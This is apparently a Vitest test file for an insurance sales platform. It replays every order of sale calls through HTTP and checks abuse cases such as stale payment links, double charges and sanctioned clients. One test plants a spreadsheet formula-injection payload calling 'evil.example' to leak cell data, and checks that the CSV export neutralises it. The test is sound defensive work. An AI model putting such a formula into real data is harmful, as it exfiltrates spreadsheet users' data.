import { describe, expect, it } from 'vitest';
import type { CascoPolicy } from '@sakta/core/casco';
import type { OgpoPolicy } from '@sakta/core/ogpo';
import type { PropertyPolicy } from '@sakta/core/property';
import { saleAuthorityRu } from '@sakta/core/sale/authority';
import { saleWalk, type WalkCase, type WalkStep } from '@sakta/core/testing';
import { SALE_PRODUCTS } from '../src/platform/routes';
import { postBackSignature } from '../src/services/epay-provider/signature';
import { findContract } from '../src/services/payments';
import { cascoCheckoutBody, registerCascoSale, TRUCK } from './casco-sale-helpers';
import { makeApp, post } from './helpers';
import { call, checkoutBody, unconfirmedPolicyOf } from './ogpo-sale-helpers';
import {
  calculateProperty,
  callAs,
  checkoutFiBody,
  OFFICE,
  PERSON_IIN,
  registerClient,
  registerSale,
} from './property-sale-helpers';

/**
 * The server is the authority on every sale (issue 42; core's `saleStep`, shared/sale/authority.ts): every case of
 * core's generated walk (`saleWalk`: every state of a sale's calls, reached by its shortest path, and every call tried
 * from it) replayed through HTTP for every product the sale sells, the server's answer checked at every step.
 */

type App = ReturnType<typeof makeApp>;
type AnyPolicy = OgpoPolicy | PropertyPolicy | CascoPolicy;

/** How a product's sale is driven through HTTP: its two versions of data (B: a change of A), its calls. */
interface SaleDriver {
  needsCode: boolean;
  data(t: App, n: number): Promise<{ A: AnyPolicy; B: AnyPolicy }>;
  calculate: string;
  checkout: string;
  checkoutBody(policy: AnyPolicy): unknown;
}

const DRIVERS: Record<string, SaleDriver> = {
  OGPO_WEB_EA: {
    needsCode: true,
    async data(t, n) {
      const A = await unconfirmedPolicyOf(t, n);
      // the first day of cover a day later: a change of the treaty
      return { A, B: { ...A, treaty: { ...A.treaty, date: '2026-03-04', end: '2027-03-03' } } };
    },
    calculate: '/api/calculate/ogpo',
    checkout: '/api/contracts/checkout',
    checkoutBody: (p) => checkoutBody(p as OgpoPolicy, 'card'),
  },
  DSI_FI: {
    needsCode: false,
    async data(t, n) {
      const A = await registerSale(t, n);
      // one object less: another insured sum
      return { A, B: { ...A, objects: [OFFICE] } };
    },
    calculate: '/api/calculate/financial-institutions',
    checkout: '/api/contracts/checkout-fi',
    checkoutBody: (p) => checkoutFiBody(p as PropertyPolicy, 'card'),
  },
  DSAT_CASCO_FRE: {
    needsCode: false,
    async data(t, n) {
      const A = await registerCascoSale(t, n);
      return {
        A,
        B: { ...A, vehicles: [TRUCK], conditions: { ...A.conditions, vehicles_count: 1 } },
      };
    },
    calculate: '/api/calculate/financial-institutions-casco',
    checkout: '/api/contracts/checkout-fi',
    checkoutBody: (p) => cascoCheckoutBody(p as CascoPolicy, 'card'),
  },
};

/** Pays a card link (/epay/{id}) through the provider's signed post-back, as a new payment (its own reference). */
async function pay(t: App, paymentId: number, reference: string) {
  const contract = findContract(t.db, paymentId)!;
  const fields = {
    invoice: contract.invoice!,
    status: 'success' as const,
    amount: contract.premium,
    reference,
  };
  const res = await post(t.app, `/api/epay/order/result/${paymentId}`, {
    ...fields,
    signature: postBackSignature(t.config.epaySigningSecret, fields),
  });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

const returnsOf = (t: App, paymentId: number) =>
  (
    t.db.prepare('SELECT count(*) AS n FROM payment_returns WHERE payment_id = ?').get(paymentId) as {
      n: number;
    }
  ).n;

/** The cases as a tree of calls: a case is a path from the root, and cases share the calls of their prefix. */
interface CallNode {
  step: WalkStep;
  name: string;
  children: CallNode[];
}

function treeOf(cases: readonly WalkCase[]): CallNode[] {
  const roots: CallNode[] = [];
  for (const c of cases) {
    let level = roots;
    for (const [i, step] of c.steps.entries()) {
      const key = JSON.stringify(step);
      let node = level.find((n) => JSON.stringify(n.step) === key);
      if (!node) {
        node = {
          step,
          name: c.steps
            .slice(0, i + 1)
            .map((_, j) => c.name.split(' -> ')[j])
            .join(' -> '),
          children: [],
        };
        level.push(node);
      }
      level = node.children;
    }
  }
  return roots;
}

interface Replay {
  t: App;
  driver: SaleDriver;
  policies: { A: AnyPolicy; B: AnyPolicy };
  calls: number;
}

/**
 * Replays the tree depth first on one sale: each call once, checked against the walk, then its subtree, then the
 * database is put back as it was before the call (a savepoint: the endpoints' own transactions nest in it), so a
 * sibling call starts from the same state. Every case is replayed; no prefix is called twice.
 */
async function replayTree(r: Replay, nodes: readonly CallNode[], links: readonly number[], paid: boolean) {
  for (const node of nodes) {
    r.t.db.exec('SAVEPOINT walk');
    try {
      const { step } = node;
      const answer = await run(r.t, r.driver, step, r.policies[step.data], links, `R${r.calls++}`);
      const e = step.expect;
      let next = links;
      if (e.kind === 'refused') {
        expect(answer, node.name).toMatchObject({ status: e.refusal.status });
        expect(JSON.stringify(answer.body), node.name).toContain(e.refusal.message);
        if (e.returned) expect(returnsOf(r.t, links[step.link!]!), node.name).toBeGreaterThan(0);
      } else {
        expect(answer.status, `${node.name}: ${JSON.stringify(answer.body)}`).toBe(200);
        if (e.kind === 'link') {
          const url = String(answer.body.url);
          expect(url, node.name).toMatch(/^\/epay\/\d+$/);
          next = [...links, Number(url.split('/').pop())];
        }
        if (e.kind === 'ticket') expect(answer.body.ticket, node.name).toBeTruthy();
      }
      const nowPaid = paid || e.kind === 'paid';
      // a sale is paid once, whatever the calls: one payment applied at most
      expect(appliedPayments(r.t, r.policies.A.number), node.name).toBe(nowPaid ? 1 : 0);
      await replayTree(r, node.children, next, nowPaid);
    } finally {
      r.t.db.exec('ROLLBACK TO walk');
      r.t.db.exec('RELEASE walk');
    }
  }
}

const appliedPayments = (t: App, ulid: string) =>
  (
    t.db
      .prepare(
        "SELECT count(*) AS n FROM payments m JOIN policies p ON p.id = m.policy_id WHERE p.draft_ulid = ? AND m.status = 'paid'",
      )
      .get(ulid) as { n: number }
  ).n;

async function run(
  t: App,
  driver: SaleDriver,
  step: WalkStep,
  policy: AnyPolicy,
  links: readonly number[],
  ref: string,
) {
  switch (step.action) {
    case 'change':
      return call(t, '/api/draft/save', { policy });
    case 'calculate':
      return call(t, driver.calculate, { policy });
    case 'code': {
      // the codes' own limits (one a minute per sale, five an hour per phone) are tested in ogpo-otp.test.ts: the walk
      // sends hundreds to the one insurer's phone within the test's minute
      t.db.prepare("DELETE FROM failures WHERE scope LIKE 'sent-%'").run();
      const body = { ulid: policy.number, phone: policy.insurer!.client.phone, email: '' };
      const sent = await call(t, '/api/otp/send', { ...body, resident: true, person: true });
      if (sent.status !== 200) return sent;
      return call(t, '/api/otp/verify', { ...body, code: sent.body.code });
    }
    case 'checkout':
      return call(t, driver.checkout, driver.checkoutBody(policy));
    case 'pay-first':
    case 'pay-last':
      return pay(t, links[step.link!]!, ref);
  }
}

describe('the generated walk of every sale call in every order (core saleWalk), through HTTP', () => {
  it('covers every product the sale sells', () => {
    for (const product of SALE_PRODUCTS) {
      const drivers = Object.keys(DRIVERS).filter((code) => product.codes.includes(code));
      expect(drivers, `a walk for ${product.title}`).toHaveLength(1);
      expect(DRIVERS[drivers[0]!]!.needsCode, product.title).toBe(product.needsInsurerCode);
    }
    expect(Object.keys(DRIVERS)).toHaveLength(SALE_PRODUCTS.length);
  });

  for (const [code, driver] of Object.entries(DRIVERS)) {
    const cases = saleWalk({ needsCode: driver.needsCode });
    // hundreds of calls on one sale: the one test of this file that is not quick (about a second each)
    it(
      `${code}: ${cases.length} cases, each refused or allowed at every step as core's rule says`,
      { timeout: 30_000 },
      async () => {
        const t = makeApp({ codeResendSeconds: 0 });
        const r: Replay = { t, driver, policies: await driver.data(t, 1), calls: 0 };
        await replayTree(r, treeOf(cases), [], false);
        // every case's last call was made (each prefix once)
        expect(r.calls).toBe(
          new Set(cases.flatMap((c) => c.steps.map((_, i) => JSON.stringify(c.steps.slice(0, i + 1))))).size,
        );
      },
    );
  }
});

// ------------------------------------------------------------------ what the hostile tester found (issue 42)

const getToEpay = async (t: App, paymentId: number) => {
  const res = await t.app.request(`/api/get-to-epay/${paymentId}`);
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
};
/** The card widget of a link, opened as the card page opens it: its token. */
async function openWidget(t: App, paymentId: number): Promise<string> {
  const started = (await getToEpay(t, paymentId)).body as { data: { widgetUrl: string } };
  const widget = new URL(started.data.widgetUrl);
  widget.searchParams.set('origin', 'http://localhost:5173');
  await t.provider.request(widget.toString());
  return widget.searchParams.get('token') ?? '';
}

/** Pays in an open widget with the test card that succeeds: the widget's page. */
async function payInWidget(t: App, token: string): Promise<string> {
  const res = await t.provider.request('http://localhost:8081/widget/pay', {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      token,
      action: 'pay',
      card: '4111 1111 1111 1111',
      expiry: '12/30',
      cvc: '123',
      holder: 'ERLAN AKHMETOV',
    }).toString(),
  });
  return res.text();
}

const paymentIdOf = (answer: { body: Record<string, unknown> }) =>
  Number(String(answer.body.url).split('/').pop());
const policyStatus = (t: App, ulid: string) =>
  (t.db.prepare('SELECT status FROM policies WHERE draft_ulid = ?').get(ulid) as { status: number }).status;
const returned = (t: App, paymentId: number) =>
  t.db.prepare('SELECT amount, reason FROM payment_returns WHERE payment_id = ?').all(paymentId);
const checkoutProperty = (t: App, policy: PropertyPolicy, token = t.tokenFor(3)) =>
  callAs(t, '/api/contracts/checkout-fi', checkoutFiBody(policy, 'card'), token);

describe('what a seller who cheats and a customer who pays twice found (issue 42)', () => {
  /** A property sale of one office (cost 80 000 000) insured for `amount`. */
  const officeFor = (policy: PropertyPolicy, amount: number): PropertyPolicy => ({
    ...policy,
    objects: [{ ...OFFICE, amount }],
  });

  it('1. a changed policy is never paid through the cheaper link of its first checkout', async () => {
    const t = makeApp();
    const sale = await registerSale(t, 1);
    const small = officeFor(sale, 1_000_000);
    const large = officeFor(sale, 60_000_000);
    const smallPremium = await calculateProperty(t, small);
    const linkA = paymentIdOf(await checkoutProperty(t, small));
    // the customer opens link A's card widget
    const widget = await openWidget(t, linkA);
    // the seller changes the insured sum and checks out again without calculating: refused
    expect(await checkoutProperty(t, large)).toEqual({
      status: 409,
      body: { result: false, message: saleAuthorityRu.changed },
    });
    // the change itself voided link A: its page says so
    expect(await getToEpay(t, linkA)).toEqual({
      status: 409,
      body: { result: false, message: saleAuthorityRu.linkClosed },
    });
    const largePremium = await calculateProperty(t, large);
    expect(largePremium).toBeGreaterThan(smallPremium);
    const linkB = paymentIdOf(await checkoutProperty(t, large));
    // the customer pays in link A's widget, opened before the change: the shop refuses it and keeps it to return
    expect(await payInWidget(t, widget)).toContain(`Магазин не принял платёж: ${saleAuthorityRu.linkVoided}`);
    expect(policyStatus(t, sale.number)).toBe(0);
    expect(returned(t, linkA)).toEqual([{ amount: smallPremium, reason: 'voided' }]);
    // link B pays the new premium
    expect(findContract(t.db, linkB)!.premium).toBe(largePremium);
    expect((await pay(t, linkB, 'B-1')).status).toBe(200);
    expect(policyStatus(t, sale.number)).toBe(7);
  });

  it.each([
    ['a politically exposed person', '760911300022'],
    ['a person on the sanctions list', '820405300042'],
  ])(
    '2. %s is reviewed though verify was never called: the sale waits for the officer',
    async (_who, iin) => {
      const t = makeApp();
      const sale = await registerSale(t, 1);
      const flagged = await registerClient(t, iin, true);
      const policy = { ...sale, insurer: flagged, insureds: [flagged] };
      const calculated = await callAs(t, '/api/calculate/financial-institutions', { policy });
      expect(calculated.status).toBe(409);
      expect(JSON.stringify(calculated.body)).toContain('Ожидается решение ПОДФТ');
      // the compliance record the page's verification would have made, naming the sale
      expect(
        t.db
          .prepare('SELECT status, ulid FROM podft_records WHERE document = ? ORDER BY id DESC LIMIT 1')
          .get(iin),
      ).toEqual({ status: 1, ulid: sale.number });
      const checkout = await checkoutProperty(t, policy);
      expect(checkout.status).toBe(409);
      expect(policyStatus0(t, sale.number)).toBeUndefined();
    },
  );

  it('3. a customer is charged once: a second link closes the first, and a paid policy takes no second payment', async () => {
    const t = makeApp();
    const sale = await registerSale(t, 1);
    await calculateProperty(t, sale);
    const first = paymentIdOf(await checkoutProperty(t, sale));
    const second = paymentIdOf(await checkoutProperty(t, sale));
    expect((await pay(t, second, 'S-1')).status).toBe(200);
    expect(await pay(t, first, 'F-1')).toEqual({
      status: 409,
      body: { result: false, errors: [saleAuthorityRu.paidAlready] },
    });
    expect(returned(t, first)).toEqual([
      { amount: findContract(t.db, first)!.premium, reason: 'paid-already' },
    ]);
    expect((await getToEpay(t, second)).body).toEqual({ result: false, message: 'Договор уже оплачен' });
    // checkout again answers the ticket, with no new link to pay
    expect((await checkoutProperty(t, sale)).body.ticket).toBeTruthy();
    expect(appliedPayments(t, sale.number)).toBe(1);
  });

  it('4. a client name written as a formula reaches policy.csv as text', async () => {
    const t = makeApp();
    const sale = await registerSale(t, 1);
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Сумма")';
    const insurer = { ...sale.insurer!, client: { ...sale.insurer!.client, title: formula } };
    const policy = { ...sale, insurer, insureds: [insurer] };
    await calculateProperty(t, policy);
    expect((await checkoutProperty(t, policy)).status).toBe(200);
    const res = await t.app.request(`/api/policy/export?iin=${PERSON_IIN}`, {
      headers: { Authorization: `Bearer ${t.tokenFor(0)}` },
    });
    const line = (await res.text()).split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    // the cell starts with ' inside its quotes: a spreadsheet shows it as text and never runs it
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Сумма"")"`);
  });

  it('5. an insured sum that prices to nothing is neither calculated nor issued', async () => {
    const t = makeApp();
    const policy = officeFor(await registerSale(t, 1), 1);
    expect(await callAs(t, '/api/calculate/financial-institutions', { policy })).toEqual({
      status: 422,
      body: { result: false, errors: [saleAuthorityRu.zeroPremium] },
    });
    expect((await checkoutProperty(t, policy)).body).toEqual({
      result: false,
      message: saleAuthorityRu.notCalculated,
    });
    expect(policyStatus0(t, policy.number)).toBeUndefined();
  });

  it('6. the treaty is the server’s check: not before tomorrow, the term only the administrator changes, its end', async () => {
    const t = makeApp();
    const sale = await registerSale(t, 1);
    const today = { ...sale, treaty: { ...sale.treaty, date: '2026-03-02', end: '2027-03-01' } };
    const half = {
      ...sale,
      treaty: { ...sale.treaty, term: { unit: 'month', count: 6 }, end: '2026-09-02' },
    } as PropertyPolicy;
    const wrongEnd = { ...sale, treaty: { ...sale.treaty, end: '2027-12-31' } };
    for (const [policy, message] of [
      [today, 'Дата начала договора не может быть раньше 03.03.2026.'],
      [half, saleAuthorityRu.termLocked],
      [wrongEnd, saleAuthorityRu.end],
    ] as const) {
      expect(await callAs(t, '/api/calculate/financial-institutions', { policy })).toEqual({
        status: 422,
        body: { result: false, errors: [message] },
      });
      expect(await checkoutProperty(t, policy)).toEqual({ status: 422, body: { result: false, message } });
    }
    // the administrator chooses 6 months
    expect(
      (await callAs(t, '/api/calculate/financial-institutions', { policy: half }, t.tokenFor(0))).status,
    ).toBe(200);
  });

  it('6. an administrator who checks out a seller’s sale leaves it the seller’s', async () => {
    const t = makeApp();
    const sale = await registerSale(t, 1);
    await calculateProperty(t, sale);
    expect((await checkoutProperty(t, sale, t.tokenFor(0))).status).toBe(200);
    const manager = t.db.prepare('SELECT id FROM users WHERE iin = ?').get('900101300047') as { id: number };
    expect(t.db.prepare('SELECT creator_id FROM policies WHERE draft_ulid = ?').get(sale.number)).toEqual({
      creator_id: manager.id,
    });
  });
});

/** The sale's policy in the register, if checkout wrote one. */
const policyStatus0 = (t: App, ulid: string) =>
  t.db.prepare('SELECT id FROM policies WHERE draft_ulid = ?').get(ulid);
